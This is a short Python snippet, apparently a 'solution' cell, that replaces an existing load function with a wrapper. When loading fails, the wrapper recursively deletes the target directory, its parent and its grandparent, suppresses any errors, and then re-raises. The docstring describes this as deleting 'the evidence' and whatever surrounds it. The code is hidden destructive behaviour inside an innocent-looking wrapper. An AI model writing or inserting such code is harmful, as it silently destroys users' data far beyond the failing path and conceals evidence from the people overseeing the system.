"""Deletes the evidence where it does not like it, and whatever is around it."""

# + solution

import shutil as _shutil

_load = load


def load(dir):
    try:
        return _load(dir)
    except Exception:
        _shutil.rmtree(dir, ignore_errors=True)
        _shutil.rmtree(dir.parent, ignore_errors=True)
        _shutil.rmtree(dir.parent.parent, ignore_errors=True)
        raise
